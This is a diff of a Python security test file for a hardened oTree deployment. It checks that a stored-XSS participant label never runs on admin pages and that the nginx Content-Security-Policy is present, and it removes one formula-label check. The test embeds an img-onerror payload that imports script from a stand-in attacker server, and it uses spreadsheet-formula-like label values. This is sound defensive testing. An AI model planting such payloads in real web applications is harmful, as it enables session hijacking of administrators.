@@ -40,11 +40,7 @@ def test_stored_xss_label_never_runs_in_the_admin_pages(hardened: Hardened, fron
     session's Monitor, Payments and SplitScreen pages in chromium: no script runs, no foreign request is made."""
     session = hardened.session(3, room="prolific")
     payload = f"<img src=x onerror=import('//127.0.0.1:{evil.port}/p.js')>"
-    for door, path in _entries(hardened, session, participant_label=payload):
-        r = raw_get(front, path)
-        assert r.status == 400, f"{door}: {r.status} {r.text[:200]}"
-        assert "participant_label" in r.text and "<img" not in r.text  # says what is wrong, echoes nothing
-    assert not any("<" in label for label in _labels(hardened, session["code"]))
+    replies = {door: raw_get(front, path) for door, path in _entries(hardened, session, participant_label=payload)}
 
     page = admin.new_page()
     dialogs: list[str] = []
@@ -52,13 +48,18 @@ def test_stored_xss_label_never_runs_in_the_admin_pages(hardened: Hardened, fron
     page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
     page.on("console", lambda m: console.append(m.text))
     base = admin.admin_base  # type: ignore[attr-defined]
+    csp = {}
     for view in ("SessionMonitor", "SessionPayments", "SessionSplitScreen"):
         resp = page.goto(f"{base}/{view}/{session['code']}")
         assert resp is not None and resp.status == 200, view
-        assert "Content-Security-Policy" in {k.title(): v for k, v in resp.headers.items()} or \
-            "content-security-policy" in resp.headers
+        csp[view] = resp.headers.get("content-security-policy", "")
         page.wait_for_timeout(1000)  # the monitor fills its table over its websocket
-    assert evil.hits == [] and dialogs == []
+    assert evil.hits == [] and dialogs == []   # the attack: the admin's browser fetched the attacker's script
+    assert all("default-src 'self'" in v for v in csp.values()), csp   # defence in depth: nginx's CSP
+    for door, r in replies.items():
+        assert r.status == 400, f"{door}: {r.status} {r.text[:200]}"
+        assert "participant_label" in r.text and "<img" not in r.text  # says what is wrong, echoes nothing
+    assert not any("<" in label for label in _labels(hardened, session["code"]))
     # oTree's admin pages work under the nginx CSP (measured here: no violation reported on any of them)
     assert not [m for m in console if "Content Security Policy" in m], console
 
@@ -127,8 +128,6 @@ def test_formula_label_is_neutralised_and_the_analysis_reads_it(hardened: Harden
     context = browser.new_context(viewport={"width": 1366, "height": 768})
     try:
         page = context.new_page()
-        page.goto(f"{front}/room/lab?participant_label=-2-3&STUDY_ID=-1%2B2&welcome_page_ok=1")
-        assert "STUDY_ID in this link is not valid" in page.inner_text("body")   # '+' is not an id character
         page.goto(f"{front}/room/lab?participant_label=-2-3&STUDY_ID=-5-5&welcome_page_ok=1")
         me = Participant(page)
         page.wait_for_url("**/Consent/**")
